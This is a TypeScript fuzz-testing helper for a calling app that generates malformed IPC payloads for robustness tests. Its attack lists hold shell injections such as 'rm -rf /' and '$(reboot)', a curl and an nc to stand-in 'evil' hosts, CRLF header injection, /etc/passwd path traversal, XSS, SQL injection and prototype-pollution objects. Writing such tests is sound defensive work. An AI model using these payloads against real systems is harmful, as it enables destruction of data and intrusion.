/**
 * Malformed IPC payloads from a seeded generator, so a failure is reproduced by its seed and index:
 * wrong types, huge strings and arrays, deeply nested values, `__proto__`/`constructor`/`prototype`
 * keys, control and bidi characters, and injection attempts in dial strings and DTMF. Only values a
 * window can actually send (structured-clone data: IPC; JSON: the preview), built without touching any
 * prototype. Pure; used by test/main/runtime/ipc-fuzz-run.ts.
 */
import { seededRandom } from './seeded-random';

export class Fuzz {
  readonly random: () => number;

  constructor(seed: number) {
    this.random = seededRandom(seed);
  }

  int(max: number): number {
    return Math.floor(this.random() * max);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }

  chance(p: number): boolean {
    return this.random() < p;
  }
}

/** Characters that reorder, hide or break text: C0/C1 controls, line separators, bidi and zero-width ones. */
export const HOSTILE_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u2028',
  '\u2029',
  '\u061c',
  '\u200b',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2069',
  '\ufeff',
  '\ud800',
  '\udfff',
];

/** What people (or an attacker) may put where a number goes: shell, header and URI tricks, other scripts' digits. */
export const DIAL_STRING_ATTACKS = [
  '5550100; rm -rf /',
  '$(reboot)',
  '`id`',
  '5550100 && curl evil.example',
  '5550100|nc evil 1',
  '555\n0100',
  '555\r\nX-Injected: 1',
  '5550100\u0000',
  '%00',
  '5550100%00',
  'tel:5550100%00',
  'tel:%0a5550100',
  'tel:%0d%0a5550100',
  'tel:%E0%A5%AB%E0%A5%AB',
  'tel:%zz',
  'tel:%2B15550100',
  'tel:+1-555-010-2030;ext=12',
  'tel:+15550100?x=$(id)',
  'sip:al ice@example.com',
  'sip: alice@example.com',
  'sip:alice@exa mple.com',
  'sip:alice@example.com;transport=tcp',
  'sip:alice@example.com?subject=$(id)',
  'sip:%0d%0a@example.com',
  'sip:alice@example.com\nVia: evil',
  'sips:bob@example.com',
  'callto://+15550100',
  'webextel:5021',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '../../etc/passwd',
  '"><script>alert(1)</script>',
  "' OR 1=1 --",
  '${7*7}',
  '{{7*7}}',
  '٥٥٥٠١٠٠',
  '۵۵۵۰۱۰۰',
  '５５５０１００',
  '५५५०१००',
  '𝟓𝟓𝟓𝟎𝟏𝟎𝟎',
  '+1\u202e5550100',
  '\u200b5550100',
  '555\u00a0010\u20112030',
  '*73',
  '#31#5550100',
  '*67+15550100',
  '+',
  '++15550100',
  '+*#',
  '0x1F',
  '1e5',
  '-5550100',
  '1'.repeat(128),
  '1'.repeat(129),
  ' +1 (555) 010-2030 ',
  'a@b.co',
  'a@b.co\n',
  'alice@example.com;x',
  'alice@@example.com',
  '@example.com',
  'null',
  'undefined',
  '__proto__',
];

export const DTMF_ATTACKS = [
  '123#',
  '12a',
  'abcd',
  '1,2,,3',
  '*#0',
  'ABCDE',
  '1;2',
  '$(x)',
  '1\n2',
  '1\r\n2',
  '%00',
  '1\u0000',
  '١٢٣',
  '１２３',
  '1 2',
  'w',
  'p',
  ',,,',
  '*'.repeat(64),
  '*'.repeat(65),
  '\u202e123',
  '123\u200b',
  '+1',
  '-1',
];

/** Ids a store might trip over if it kept calls in a plain object. */
export const HOSTILE_IDS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];

/** An object with `key` as its own property, whatever the key (never a prototype change). */
export function withOwn(target: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
  return target;
}

function nested(depth: number, asArray: boolean, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i += 1) value = asArray ? [value] : { a: value };
  return value;
}

function hostileString(f: Fuzz): string {
  const parts: string[] = [];
  const n = 1 + f.int(6);
  for (let i = 0; i < n; i += 1) parts.push(f.chance(0.5) ? f.pick(HOSTILE_CHARACTERS) : f.pick(['call', '5550', ' ', 'mom', 'x', '#']));
  return parts.join('');
}

/** A huge string: usually tens of kilobytes, sometimes a mebibyte. */
function hugeString(f: Fuzz): string {
  const length = f.chance(0.1) ? 1_048_576 + f.int(1_000) : 10_000 + f.int(90_000);
  return f.pick(['x', '9', '\u202e', '\n', 'é', '\u0000']).repeat(length);
}

function hugeArray(f: Fuzz): unknown[] {
  const length = 5_000 + f.int(45_000);
  const element = f.pick<unknown>(['c1', 0, null, {}, [], 'x'.repeat(100)]);
  return new Array<unknown>(length).fill(element);
}

/** A value from every corner of what structured clone and JSON can carry. */
export function junkValue(f: Fuzz): unknown {
  switch (f.int(30)) {
    case 0:
      return null;
    case 1:
      return undefined;
    case 2:
      return f.pick([true, false]);
    case 3:
      return f.pick([0, -0, -1, 1, 1.5, 2 ** 53 + 1, Number.MAX_VALUE, Number.MIN_VALUE]);
    case 4:
      return f.pick([Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]);
    case 5:
      return f.pick([0n, 2n ** 64n, -1n]);
    case 6:
      return '';
    case 7:
      return hostileString(f);
    case 8:
      return hugeString(f);
    case 9:
      return f.pick(DIAL_STRING_ATTACKS);
    case 10:
      return f.pick(DTMF_ATTACKS);
    case 11:
      return f.pick(HOSTILE_IDS);
    case 12:
      return [];
    case 13:
      return hugeArray(f);
    case 14:
      return nested(1 + f.int(5_000), f.chance(0.5), f.pick<unknown>([null, 'x', 1, {}]));
    case 15:
      return new Date(f.pick([0, 8.64e15, Number.NaN]));
    case 16:
      return new Map<unknown, unknown>([
        ['type', 'dial'],
        [{}, 1],
      ]);
    case 17:
      return new Set(['a', 1, null]);
    case 18:
      return /x/giu;
    case 19:
      return new Uint8Array(f.int(1_024));
    case 20:
      return new ArrayBuffer(f.int(1_024));
    case 21:
      return Object.assign(Object.create(null) as Record<string, unknown>, { type: 'hold', callId: 'c1' });
    case 22:
      return JSON.parse('{"__proto__":{"polluted":"yes","isAdmin":true},"type":"hold","callId":"c1"}') as unknown;
    case 23:
      return { constructor: { prototype: { polluted: 'yes' } }, prototype: { polluted: 'yes' } };
    case 24: {
      const sparse: unknown[] = [];
      sparse[1_000] = 'x';
      return sparse;
    }
    case 25: {
      const wide: Record<string, unknown> = {};
      const keys = 100 + f.int(10_000);
      for (let i = 0; i < keys; i += 1) wide[`k${i}\u202e`] = i;
      return wide;
    }
    case 26:
      return f.pick(['[object Object]', 'true', '0', '{}', '[]', 'null']);
    case 27:
      return { toString: 'not a function', valueOf: 1, toJSON: null, then: 'thenable?' };
    case 28:
      return new Error('an error object');
    default:
      return withOwn({}, f.pick(PROTOTYPE_KEYS), { polluted: 'yes', toString: 'x' });
  }
}

/** A copy of `template` with one to three fields replaced, removed or added, or the whole payload replaced. */
export function mutate(f: Fuzz, template: unknown, extraValues: readonly unknown[] = []): unknown {
  const value = (): unknown => (extraValues.length > 0 && f.chance(0.3) ? f.pick(extraValues) : junkValue(f));
  if (template === undefined || typeof template !== 'object' || template === null || f.chance(0.15)) {
    return f.chance(0.1) ? [template] : value();
  }
  const copy: Record<string, unknown> = { ...(template as Record<string, unknown>) };
  const keys = Object.keys(copy);
  const steps = 1 + f.int(3);
  for (let i = 0; i < steps; i += 1) {
    const roll = f.int(10);
    if (roll < 6 && keys.length > 0) copy[f.pick(keys)] = value();
    else if (roll < 7 && keys.length > 0) delete copy[f.pick(keys)];
    else if (roll < 9) withOwn(copy, f.pick([...PROTOTYPE_KEYS, 'extra', 'type\u202e', 'callId ', '']), value());
    else {
      // One level down: a nested field mutated in turn (settings sections, credential values).
      const key = keys.length > 0 ? f.pick(keys) : 'nested';
      copy[key] = mutate(f, copy[key], extraValues);
    }
  }
  return copy;
}
